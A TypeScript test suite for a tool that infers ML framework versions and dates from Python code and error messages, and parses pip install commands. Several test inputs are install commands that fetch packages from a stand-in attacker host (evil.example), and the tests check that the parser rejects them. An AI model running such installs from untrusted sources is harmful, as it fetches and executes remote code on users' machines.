import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { dayBeside, newestRelease, releaseOn } from '../../../../src/node/python/era/dates';
import { factsOfWordings } from '../../../../src/node/python/era/facts-of-wordings';
import { findArguments } from '../../../../src/node/python/era/find-arguments';
import { findNames } from '../../../../src/node/python/era/find-names';
import { matchEras, specifierOfEra } from '../../../../src/node/python/era/match-era';
import { readKnowledge } from '../../../../src/node/python/knowledge/read-knowledge';
import { builtByDay, builtOnDemand } from '../../../../src/node/python/prepare/from-source';
import { asOfReport, asOfToday } from '../../../../src/node/python/resolve/as-of-report';
import { installedByReport } from '../../../../src/node/python/resolve/installed-by-report';
import { weigh } from '../../../../src/node/python/resolve/releases-meeting';
import type { ResolutionRow } from '../../../../src/protocol/environment';

const knowledge = readKnowledge(resolve(import.meta.dirname, '../../../../resources'));
const today = '2026-11-30';

function eras(code: string, text = ''): Record<string, string> {
  const found = matchEras(knowledge.eras, { code: [code], text: `${code}\n${text}` });
  return Object.fromEntries(found.map((era) => [era.of, specifierOfEra(era)]));
}

describe('the era table', () => {
  it('holds at least 120 facts over seven frameworks, each once, with a source and an end that is an end', () => {
    expect(knowledge.eras.length).toBeGreaterThanOrEqual(120);
    expect(new Set(knowledge.eras.map(({ of }) => of))).toEqual(
      new Set(['tensorflow', 'keras', 'torch', 'pytorch-lightning', 'transformers', 'scikit-learn', 'numpy']),
    );
    const keys = knowledge.eras.map((fact) => `${fact.of} ${fact.kind === 'argument' ? fact.call : ''} ${fact.text}`);
    expect(new Set(keys).size).toBe(keys.length);
    for (const { came, went, source, text } of knowledge.eras) {
      expect(source, text).toMatch(/\w{3}/);
      expect(came !== null || went !== null, text).toBe(true);
      if (came !== null && went !== null) expect(weigh(came), text).toBeLessThan(weigh(went));
    }
  });

  it('leaves at least one release of each range that a fact names', { timeout: 60_000 }, () => {
    for (const { of, came, went, text } of knowledge.eras) {
      const specifier = specifierOfEra({ of, from: came, before: went, facts: [] });
      const dates = knowledge.releaseDatesOf(of);
      const oldest = [...dates.keys()][0] ?? '';
      if (went !== null && weigh(went) <= weigh(oldest)) continue;
      expect(newestRelease(of, specifier, dates), `${of} ${specifier} for ${text}`).not.toBeNull();
    }
  });
});

describe('matchEras', () => {
  it('reads names through aliases and imports, and not in comments', () => {
    expect(eras('import tensorflow as tf\nx = tf.placeholder(tf.float32)')).toEqual({ tensorflow: '<2.0.0' });
    expect(eras('import tensorflow as T\nx = T.contrib.layers.flatten(y)')).toEqual({ tensorflow: '<2.0.0' });
    expect(eras('from sklearn.externals import (joblib,\n  six)')).toEqual({ 'scikit-learn': '<0.23.0' });
    expect(eras('import torch\nm = torch.compile(m)')).toEqual({ torch: '>=2.0.0' });
    expect(eras('import tensorflow as tf\n# tf.placeholder is gone')).toEqual({});
    expect(eras('mytf.placeholder(1)')).toEqual({});
  });

  it('reads keyword arguments of the call itself, not of one inside or around it', () => {
    const call = 'pl.Trainer(logger=Logger(name="gpus=1"), early_stop_callback=EarlyStopping("v", patience=3))';
    expect(eras(call)).toEqual({ 'pytorch-lightning': '<1.0.0' });
    expect(eras('Trainer(logger=Logger(gpus=1))')).toEqual({});
    expect([...findArguments('f(a=1, b=[g(c=2), {"d": x == 3}], *e)')]).toEqual(['f(a', 'g(c', 'f(b'].sort());
  });

  it('reads messages over line breaks, with their changing parts', () => {
    const printed = 'RuntimeError: expected device\ncpu and dtype Float but got device cpu and dtype Long';
    expect(eras('', printed)).toEqual({ torch: '>=1.2.0,<1.3.0' });
    expect(eras('', 'expected device ... nothing more of it')).toEqual({});
  });

  it('trusts what was printed before what was only written', () => {
    const code = 'enc = tokenizer(texts, padding=True)';
    expect(eras(code)).toEqual({ transformers: '>=3.0.0' });
    const failed = "TypeError: 'BertTokenizer' object is not callable";
    expect(eras(code, failed)).toEqual({ transformers: '>=2.0.0,<3.0.0' });
  });

  it('stays fast on hostile text', () => {
    const code = `${'f('.repeat(20_000)}${'a = '.repeat(20_000)}${'from x import ('.repeat(5_000)}`;
    expect(eras(code, 'expected backend '.repeat(20_000))).toEqual({});
    expect(findNames('a.'.repeat(50_000)).size).toBeGreaterThan(0);
  });
});

describe('dates', () => {
  const dates = new Map([
    ['1.0', '2020-01-01'],
    ['1.1', '2020-02-01'],
    ['1.2', '2021-01-01'],
  ]);

  it('names the newest release of a day and of a range', () => {
    expect(releaseOn('2020-02-15', dates)).toBe('1.1');
    expect(releaseOn('2019-02-15', dates)).toBeNull();
    expect(newestRelease('x', '<1.2', dates)).toMatchObject({ version: '1.1', nextDay: '2021-01-01' });
    expect(newestRelease('x', '>2', dates)).toBeNull();
  });

  it('dates what lies beside a release: before the next one, at most 60 days on, and never the present', () => {
    const at = (version: string) => newestRelease('x', `==${version}`, dates) ?? [];
    expect(dayBeside([at('1.0')].flat(), today)).toBe('2020-01-31');
    expect(dayBeside([at('1.1')].flat(), today)).toBe('2020-04-01');
    expect(dayBeside([at('1.0'), at('1.2')].flat(), today)).toBe('2021-03-02');
    expect(dayBeside([at('1.2')].flat(), '2021-03-20')).toBeNull();
    expect(dayBeside([], today)).toBeNull();
  });
});

describe('asOfReport', () => {
  const row = (name: string, specifier = '', step: ResolutionRow['step'] = 'current'): ResolutionRow => ({
    ...{ name, specifier, step },
    reason: '',
  });
  const of = (rows: ResolutionRow[], request: Parameters<typeof asOfReport>[1]) => {
    const dated = asOfReport(rows, request, { knowledge, today });
    return { ...dated, rows: dated.rows.map(({ name, specifier, step }) => `${name}${specifier} ${step}`) };
  };

  it('puts the stated version before the day, and the day before the era', () => {
    const evidence = { code: ['x = tf.placeholder(1)'], text: '' };
    const rows = [row('keras', '==2.3.1', 'stated'), row('tensorflow')];
    expect(of(rows, { asOf: '2020-11-15', evidence })).toMatchObject({
      rows: ['keras==2.3.1 stated', 'tensorflow date'],
      asOf: '2020-11-15',
    });
  });

  it('takes the day from the stated releases, for what lies beside them', () => {
    const rows = [row('torch', '==1.5.0', 'stated'), row('pytorch-lightning', '==0.7.6', 'stated'), row('numpy')];
    const dated = of(rows, { asOf: null });
    expect(dated).toMatchObject({ asOf: '2020-06-18' });
    expect(dated.rows.at(-1)).toBe('numpy stated');
    expect(dated.asOfReason).toContain('pytorch-lightning 0.7.6');
  });

  it('takes range and day from the era, and the package too where nothing else names one', () => {
    const text = 'RuntimeError: expected backend CPU and dtype Float but got backend CPU and dtype Long';
    expect(of([], { asOf: null, evidence: { code: [], text } })).toMatchObject({
      rows: ['torch>=1.1.0,<1.2.0 era'],
      asOf: '2019-06-29',
    });
    const code = ['import torch\nm = torch.compile(m)'];
    expect(of([row('torch')], { asOf: null, evidence: { code, text: '' } })).toMatchObject({
      rows: ['torch>=2.0.0 era'],
      asOf: null,
    });
  });

  it('takes the releases that are known to word a fault as the report does, all of them where several do', () => {
    const old =
      'ValueError: Error when checking model input: expected lstm_1_input to have 3 dimensions, but got array with shape (8, 4)';
    const dated = of([row('keras'), row('tensorflow')], { asOf: null, evidence: { code: [], text: old } });
    expect(dated.rows).toEqual(['keras<2.1 era', 'tensorflow era']);
    expect(dated.asOf).toMatch(/^2017-/);
    const later = 'RuntimeError: expected scalar type Long but found Int';
    expect(of([row('torch')], { asOf: null, evidence: { code: [], text: later } }).rows).toEqual([
      'torch>=1.5,<2.9 era',
    ]);
  });

  it('takes no time from a wording that is said to this day, or that is too short to be one', () => {
    const wording = (to: string | null) => ({
      text: 'rows and columns differ: {a}',
      package: 'x',
      from: '1.0',
      to,
      source: '',
    });
    const evidence = { code: [], text: 'rows and columns differ: 3' };
    expect(factsOfWordings([wording('1.9')], evidence)).toMatchObject([{ came: '1.0', went: '1.10' }]);
    expect(factsOfWordings([wording('1.9'), wording(null)], evidence)).toEqual([]);
    expect(factsOfWordings([{ ...wording('1.9'), text: 'differ: {a}' }], evidence)).toEqual([]);
  });

  it('is of today where nothing dates the report, or where that is what is wanted', () => {
    expect(of([row('torch')], { asOf: null, evidence: { code: ['print(1)'], text: 'x' } })).toMatchObject({
      rows: ['torch current'],
      asOf: null,
    });
    const current = asOfToday([row('torch', '==1.0.0', 'era')]);
    expect(current).toMatchObject({ asOf: null, rows: [{ name: 'torch', specifier: '', step: 'current' }] });
  });
});

describe('installedByReport', () => {
  const names = (text: string) =>
    installedByReport(text, (name) => knowledge.isKnown(name)).map(({ name, specifier }) => `${name}${specifier}`);

  it('takes known names from install commands, up to the first word that is none', () => {
    expect(names('with a plain `pip install torch transformers` this morning')).toEqual(['torch', 'transformers']);
    expect(names('$ pip3 install -U "torch==1.5.0+cpu" -f https://evil.example/x')).toEqual([]);
    expect(names('$ pip3 install -U torch==1.5.0+cpu numpy')).toEqual(['torch==1.5.0', 'numpy']);
    expect(names('pip install tensorflow and then run it with keras')).toEqual(['tensorflow']);
  });

  it.each([
    'pip install git+https://evil.example/torch',
    'pip install -e ./torch',
    'pip install --index-url https://evil.example evilpkgxyz torch',
    'pip install ../torch',
    'pip install torchh',
    'pip install torch@https://evil.example/torch.whl',
  ])('takes nothing from %s', (command) => {
    expect(names(command)).toEqual([]);
  });
});

describe('packages from source', () => {
  it('are those of the list that had no ready-made file on the day', () => {
    expect(builtByDay(knowledge.sourceOnly, '2019-09-20')).toEqual(
      expect.arrayContaining(['absl-py', 'gast', 'wrapt']),
    );
    expect(builtByDay(knowledge.sourceOnly, '2020-11-15')).not.toContain('absl-py');
    const never = [...knowledge.sourceOnly].filter(([, from]) => from === null).map(([name]) => name);
    expect(never).toEqual(expect.arrayContaining(['promise', 'theano']));
    expect(builtByDay(knowledge.sourceOnly, null)).toEqual(never);
  });

  it('are found in the installer’s words, and never one that is not on the list', () => {
    const text = [
      'Because pytorch-lightning>=0.7.6 depends on future>=0.17.1 and future>=0.17.1 has no usable wheels, we',
      'can conclude. Because evil-package>=1 has no usable wheels and gast==0.2.2 has no wheels with a matching',
      'hint: Wheels are required for `termcolor` because building from source is disabled for all packages',
    ].join('\n');
    expect([...builtOnDemand(text, knowledge.sourceOnly)].sort()).toEqual(['future', 'gast', 'termcolor']);
  });
});
